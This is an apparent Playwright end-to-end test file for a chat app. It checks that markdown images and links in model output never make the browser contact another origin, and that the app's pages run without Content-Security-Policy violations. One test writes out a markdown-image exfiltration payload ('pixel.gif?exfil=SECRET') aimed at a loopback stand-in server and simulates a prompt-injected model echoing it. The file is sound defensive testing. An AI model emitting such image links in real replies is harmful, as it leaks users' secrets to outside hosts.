"""Model text cannot make the browser contact another origin, and the app's own pages run under
its Content-Security-Policy without a single violation (the ``page`` fixture fails on console
errors, and a CSP violation is one)."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.ui import cards, messages, open_new_thread, reply_to, send, wait_idle
from tests.helpers.app_server import AppServer


class _Counter(BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        type(self).hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.end_headers()
        self.wfile.write(b"GIF89a")

    def log_message(self, *args) -> None:
        pass


@pytest.fixture
def other_origin() -> Iterator[tuple[str, list[str]]]:
    """A tiny HTTP server on loopback (another origin than the app): its URL and the paths it got."""
    handler = type("Counter", (_Counter,), {"hits": []})
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}", handler.hits
    httpd.shutdown()
    httpd.server_close()


@pytest.fixture(scope="module")
def echo_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AppServer]:
    """The app with an agent whose model repeats the user's markdown verbatim (as a prompt-injected
    real model would write it)."""
    server = AppServer(tmp_path_factory.mktemp("echo-app"), env={"HITL_AGENT": "tests.fixtures.echo_agent:make_agent"})
    server.start()
    yield server
    server.stop()


def test_markdown_images_from_the_model_are_never_fetched(page: Page, echo_server: AppServer, other_origin):
    url, hits = other_origin
    open_new_thread(page, echo_server)
    reply = reply_to(page, f"Look: ![chart]({url}/pixel.gif?exfil=SECRET) and [the docs]({url}/docs)")
    page.wait_for_timeout(1000)
    assert hits == [], f"the browser contacted another origin: {hits}"
    assert "image: chart" in reply
    bubble = messages(page, "assistant").last
    expect(bubble.locator("img")).to_have_count(0)
    image_link = bubble.get_by_test_id("markdown-image-link")
    expect(image_link).to_have_attribute("href", f"{url}/pixel.gif?exfil=SECRET")
    for link in (image_link, bubble.get_by_role("link", name="the docs")):
        expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
        expect(link).to_have_attribute("target", "_blank")
    page.reload()  # the settled thread, rendered from scratch
    expect(messages(page, "assistant")).to_have_count(1)
    page.wait_for_timeout(1000)
    assert hits == [], f"the browser contacted another origin: {hits}"


def test_chat_review_and_audit_pages_run_without_csp_violations(page: Page, app_server: AppServer):
    open_new_thread(page, app_server)
    assert len(reply_to(page, "stream 6 words").split()) == 6
    send(page, "email bob@example.com about csp: hello")
    expect(cards(page)).to_have_count(1)
    page.reload()
    expect(cards(page)).to_have_count(1)
    page.get_by_test_id("decision-approve").click()
    page.get_by_test_id("submit-decisions").click()
    expect(messages(page, "tool")).to_have_count(1)
    wait_idle(page)
    page.goto(app_server.url + "/audit")
    expect(page.get_by_test_id("audit-row")).to_have_count(1)
